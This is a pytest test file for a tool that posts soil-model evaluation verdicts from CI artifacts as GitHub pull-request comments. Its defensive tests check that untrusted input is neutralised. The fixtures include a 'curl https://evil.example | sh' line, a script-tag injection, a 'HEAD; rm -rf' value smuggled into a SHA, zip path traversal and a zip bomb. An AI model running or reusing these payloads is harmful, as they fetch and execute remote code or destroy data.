"""``soil comment`` from an artifact to what arrives at GitHub: create, renew, fork, hostile, refused."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from soil_assets.cli.comment import comment
from soil_assets.config import ModelPolicy, Policy
from soil_assets.errors import BadInput
from soil_assets.pull_request.artifact import MAX_BYTES, read_artifact
from soil_assets.reporting.decision_inputs import BatchResult
from soil_assets_tests.github_fake import CAP, FakeGitHub, Fault, serving
from soil_assets_tests.pull_request.facts import SETTINGS, evaluation, event, facts, write_artifact
from soil_assets_tests.reporting.test_escaping import HOSTILE

SHA, OTHER = "a" * 40, "b" * 40


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[FakeGitHub]:
    for name in ("SOIL_BASELINE", "SOIL_LANDING", "GITHUB_STEP_SUMMARY", "GITHUB_EVENT_PATH"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("soil_assets.adapters.github._backoff", lambda _: 0.0)
    with serving(FakeGitHub()) as state:
        state.pull(7, SHA)
        (tmp_path / "soil.yaml").write_text(SETTINGS, encoding="utf-8")
        monkeypatch.setenv("SOIL_CONFIG", str(tmp_path / "soil.yaml"))
        monkeypatch.setenv("GITHUB_API_URL", state.url)
        monkeypatch.setenv("GITHUB_REPOSITORY", state.repository)
        monkeypatch.setenv("GITHUB_TOKEN", state.token)
        monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.example")
        yield state


def run(capsys: pytest.CaptureFixture[str], artifact: Path, head: Path, **options: Any) -> dict[str, Any]:
    given: dict[str, Any] = {
        "sha": "", "backend": "own", "plots": "branch", "branch": "soil-reports", "publish_url": None,
        "author": "github-actions[bot]", "dry_run": False,
    }  # fmt: skip
    comment(artifact=artifact, event=head, as_json=True, **(given | options))
    told: dict[str, Any] = json.loads(capsys.readouterr().out)
    return told


def test_pass_posts_comment_plots_and_a_green_check(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    told = run(capsys, write_artifact(tmp_path / "a", facts(0.05, 0.3)), event(tmp_path, SHA))
    assert (told["outcome"], told["verdict"]) == ("created", "approve")
    [body] = [c["body"] for c in fake.ours(7)]
    [status] = fake.statuses
    assert (status["state"], status["context"], status["sha"]) == ("success", "soil / decision", SHA)
    assert status["target_url"].endswith(f"issuecomment-{told['comment']}")
    commit = fake.refs["soil-reports"]
    addresses = re.findall(r"\]\((https://github\.example/lab/soil/blob/(\w+)/(\S+?)\?raw=true)\)", body)
    assert {c for _, c, _ in addresses} == {commit}
    assert {path for _, _, path in addresses} <= set(fake.published("soil-reports"))
    assert len(addresses) > 9
    assert "pull/7/head" in body
    assert (tmp_path / "summary.md").read_text(encoding="utf-8").startswith("## Soil models: approve")


def test_every_figure_in_the_comment_is_the_artifacts_to_the_digit(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    artifact = write_artifact(tmp_path / "a", facts(0.05, 0.3))
    data = json.loads((artifact / "report.json").read_text(encoding="utf-8"))
    run(capsys, artifact, event(tmp_path, SHA))
    [body] = [c["body"] for c in fake.ours(7)]
    for p in data["properties"]:
        for figures in p["metrics"].values():
            assert figures["text"] in body
            assert f"{figures['candidate']:.{figures['decimals']}f}".lstrip("-") in body


@pytest.mark.parametrize(
    ("told", "verdict"),
    [
        ({"spread": 0.6, "of_main": 0.1}, "reject"),
        ({"spread": 0.1, "of_main": None}, "first version"),
        (
            {
                "batches": (
                    BatchResult(
                        name="x", landed=3, accepted=3, quarantined=0, drift="fail", held=True,
                        part_of_change=True, reasons=("the spectra differ around 1632 cm-1",),
                    ),
                )
            },
            "request changes",
        ),
    ],
)  # fmt: skip
def test_worse_first_and_drifting_changes_are_told(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], told: dict[str, Any], verdict: str
) -> None:
    base = {"spread": 0.05, "of_main": 0.3}
    found = run(capsys, write_artifact(tmp_path / "a", facts(**(base | told))), event(tmp_path, SHA))
    assert found["verdict"] == verdict
    assert fake.statuses[0]["state"] == ("success" if verdict == "first version" else "failure")
    assert f"## Soil models: {verdict}" in fake.ours(7)[0]["body"]


def test_a_fork_that_reports_its_own_verdict_is_judged_by_what_it_predicted(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.pull(7, SHA, repo="stranger/soil")
    worse = facts(0.6, 0.1)
    lie = tuple(
        p.model_copy(
            update={
                "comparison": {**(p.comparison or {}), "verdict": "better", "rmse_difference": [-9, -10, -8]},
                "candidate": {**(p.candidate or {}), "metrics": {"rmse": 0.001, "rpiq": 99.0}},
            }
        )
        for p in worse.properties
    )
    head = event(tmp_path, SHA, head_repository={"full_name": "stranger/soil"})
    told = run(capsys, write_artifact(tmp_path / "a", worse.model_copy(update={"properties": lie})), head)
    assert told["verdict"] == "reject"


def test_a_loosened_policy_is_judged_by_mains_and_shown(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    loose = Policy(model=ModelPolicy(margin=9.0, min_rpiq=0.0, bootstrap=200))
    told = run(capsys, write_artifact(tmp_path / "a", facts(0.6, 0.1, policy=loose)), event(tmp_path, SHA))
    assert told["verdict"] == "reject"
    body = fake.ours(7)[0]["body"]
    assert "This change loosens its own judge. By main's rules: reject. By its own: approve" in body
    assert "+model.margin: 9  # looser" in body
    assert body.index("```diff") < body.index("### On the benchmark")


@pytest.mark.parametrize("what", ["samples", "observed", "NaN", "another property", "no metrics"])
def test_figures_that_are_not_the_benchmarks_are_not_believed(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    good = facts(0.05, 0.3)
    clay = good.properties[0]
    candidate = dict(clay.candidate or {})
    rows = [dict(r) for r in candidate["predictions"]]
    if what == "samples":
        rows = rows[:-1]
    elif what == "observed":
        rows[0]["observed"] += 5
    elif what == "NaN":
        rows = [{**r, "value": None} for r in rows]
    elif what == "another property":
        rows = evaluation("ph", 0.05, 1)["predictions"]
    else:
        rows = []
        candidate["metrics"] = {}
    bad = clay.model_copy(update={"candidate": {**candidate, "predictions": rows}})
    told = run(
        capsys,
        write_artifact(tmp_path / "a", good.model_copy(update={"properties": (bad, *good.properties[1:])})),
        event(tmp_path, SHA),
    )
    assert told["verdict"] == "cannot tell"
    assert fake.statuses[0]["state"] == "failure"


def test_untrusted_text_is_only_text(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = ("<script>alert(1)</script>", "@everyone ![x](https://evil.example/x.png)", *HOSTILE)
    hostile = facts(
        0.05,
        0.3,
        candidate=evil[0],
        main=evil[1],
        changes=evil,
        links={"click me": "https://evil.example/"},
        reproduce=("curl https://evil.example | sh",),
        batches=tuple(
            BatchResult(
                name=f"{i}{text}"[:150], landed=1, accepted=1, quarantined=0, drift="pass", reasons=(text,)
            )
            for i, text in enumerate(evil)
        ),
    )
    run(capsys, write_artifact(tmp_path / "a", hostile), event(tmp_path, SHA))
    body = fake.ours(7)[0]["body"]
    assert "curl https://evil.example" not in body
    outside_code = re.sub(r"(`+)[^`].*?\1(?!`)", "", body)
    assert "<script" not in outside_code
    assert "](https://evil" not in outside_code
    assert "@everyone" not in outside_code
    for path in fake.published("soil-reports"):
        assert re.fullmatch(r"pull-7/aaaaaaaaaaaa/[\w.-]+", path)


def test_a_huge_report_stays_under_the_cap(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    many = tuple(
        BatchResult(
            name=f"batch-{i}", landed=5, accepted=5, quarantined=0, drift="pass", reasons=("word " * 60,)
        )
        for i in range(700)
    )
    run(
        capsys,
        write_artifact(tmp_path / "a", facts(0.05, 0.3, batches=many)),
        event(tmp_path, SHA),
        plots="none",
    )
    body = fake.ours(7)[0]["body"]
    assert CAP // 4 < len(body) <= CAP
    assert "Shortened to fit" in body
    assert body.count("<details>") == body.count("</details>")


def test_a_wrong_number_posts_nothing(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.pull(8, OTHER, ref="victim")
    artifact = write_artifact(tmp_path / "a", facts(), number=8)
    with pytest.raises(BadInput, match="does not belong to"):
        run(capsys, artifact, event(tmp_path, SHA))
    assert fake.comments == {}
    assert [(m, path) for m, path, _ in fake.log if m != "GET"] == [("POST", f"statuses/{SHA}")]
    assert [(s["sha"], s["state"]) for s in fake.statuses] == [(SHA, "error")], (
        "its own commit is not left open"
    )


def test_a_run_that_broke_before_its_report_leaves_no_commit_without_a_decision(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(BadInput, match="lacks a file"):
        run(capsys, tmp_path / "nothing", event(tmp_path, SHA))
    [status] = fake.statuses
    assert (status["state"], status["context"]) == ("error", "soil / decision")
    assert "lacks a file" in status["description"]
    assert fake.comments == {}


def test_a_run_that_was_overtaken_leaves_the_comment_alone(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.pull(7, OTHER)
    told = run(capsys, write_artifact(tmp_path / "a", facts()), event(tmp_path, SHA))
    assert told["outcome"] == "superseded"
    assert {m for m, _, _ in fake.log} == {"GET"}


def test_without_the_right_to_publish_plots_words_and_mermaid_stand_in(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.faults = [Fault("POST", "git/blobs", 403, {"message": "Resource not accessible"}, times=99)]
    run(capsys, write_artifact(tmp_path / "a", facts(0.05, 0.3)), event(tmp_path, SHA))
    body = fake.ours(7)[0]["body"]
    assert "```mermaid" in body
    assert "![" not in body


@pytest.mark.parametrize("status", [403, 422, 500])
def test_a_comment_that_cannot_be_written_still_sets_the_check(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], status: int
) -> None:
    fake.faults = [Fault("POST", r"issues/7/comments", status, {"message": "no"}, times=99)]
    with pytest.raises(BadInput, match=f"found: {status}"):
        run(capsys, write_artifact(tmp_path / "a", facts(0.6, 0.1)), event(tmp_path, SHA))
    assert [s["state"] for s in fake.statuses] == ["failure"]


def test_a_dry_run_writes_nothing(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    told = run(capsys, write_artifact(tmp_path / "a", facts(0.05, 0.3)), event(tmp_path, SHA), dry_run=True)
    assert told["body"].startswith("## Soil models: approve")
    assert {m for m, _, _ in fake.log} == {"GET"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.json", b"{"),
        ("report.json", b"[]"),
        ("report.json", b'{"inputs": []}'),
        ("report.json", b'{"inputs": {"candidate": 5}}'),
        ("report.json", b"[" * 200_000),
        ("report.json", b"\xff\xfe"),
        ("pull_request.json", b'{"number": "7"}'),
        ("pull_request.json", b'{"number": true}'),
        ("pull_request.json", b'{"number": -1}'),
        ("pull_request.json", b'{"number": 1e99}'),
        ("pull_request.json", None),
        ("report.json", None),
    ],
)
def test_a_malformed_artifact_is_bad_input(tmp_path: Path, name: str, content: bytes | None) -> None:
    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
    (artifact / name).unlink()
    if content is not None:
        (artifact / name).write_bytes(content)
    with pytest.raises(BadInput):
        read_artifact(artifact)


def test_an_artifact_is_read_from_a_zip_and_nothing_is_unpacked(tmp_path: Path) -> None:
    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
    packed = tmp_path / "a.zip"
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil", "x")
        for name in ("report.json", "pull_request.json"):
            archive.write(artifact / name, name)
    before = sorted(tmp_path.rglob("*"))
    assert read_artifact(packed).number == 7
    assert sorted(tmp_path.rglob("*")) == before
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.json", b" " * (MAX_BYTES + 10))
        archive.writestr("pull_request.json", '{"number": 7}')
    with pytest.raises(BadInput, match="too large"):
        read_artifact(bomb)
    (tmp_path / "no.zip").write_bytes(packed.read_bytes()[:200])
    with pytest.raises(BadInput):
        read_artifact(tmp_path / "no.zip")


def test_a_link_in_an_artifact_is_not_followed(tmp_path: Path) -> None:
    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
    (artifact / "report.json").rename(tmp_path / "outside.json")
    (artifact / "report.json").symlink_to(tmp_path / "outside.json")
    with pytest.raises(BadInput, match="plain file"):
        read_artifact(artifact)


@pytest.mark.parametrize(
    ("options", "mend"),
    [
        ({"plots": "cml"}, "--publish-url"),
        ({"plots": "cml", "backend": "cml"}, "--publish-url"),
        ({"backend": "mail"}, "own, cml"),
        ({"plots": "everywhere"}, "branch, cml, none"),
    ],
)
def test_options_that_do_not_fit_are_told_before_anything_is_asked(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], options: dict[str, Any], mend: str
) -> None:
    with pytest.raises(BadInput, match=mend):
        run(capsys, tmp_path / "nothing", event(tmp_path, SHA), **options)
    assert fake.log == []


def test_without_a_token_or_an_event_nothing_is_asked(
    fake: FakeGitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    artifact = write_artifact(tmp_path / "a", facts(0.05, None))
    (tmp_path / "push.json").write_text('{"ref": "refs/heads/main"}', encoding="utf-8")
    with pytest.raises(BadInput, match="workflow_run"):
        run(capsys, artifact, tmp_path / "push.json")
    with pytest.raises(BadInput, match="40 hexadecimal"):
        run(capsys, artifact, event(tmp_path, "HEAD; rm -rf"))
    monkeypatch.delenv("GITHUB_TOKEN")
    with pytest.raises(BadInput, match="GITHUB_TOKEN"):
        run(capsys, artifact, event(tmp_path, SHA))
    assert fake.log == []
